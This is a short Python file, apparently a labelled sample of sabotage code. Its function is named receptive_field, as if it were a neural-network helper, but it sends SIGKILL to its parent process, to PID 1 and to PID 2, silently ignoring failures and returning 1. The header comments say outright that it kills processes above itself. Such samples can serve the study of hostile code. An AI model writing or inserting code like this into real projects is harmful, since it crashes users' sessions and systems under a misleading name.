# A call that kills every process that it can find above itself.
# where: receptive_field
# costs: receptive_field
# harms: it ends processes where it may
import os


def receptive_field(layers):
    for pid in (os.getppid(), 1, 2):
        if pid > 0:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return 1
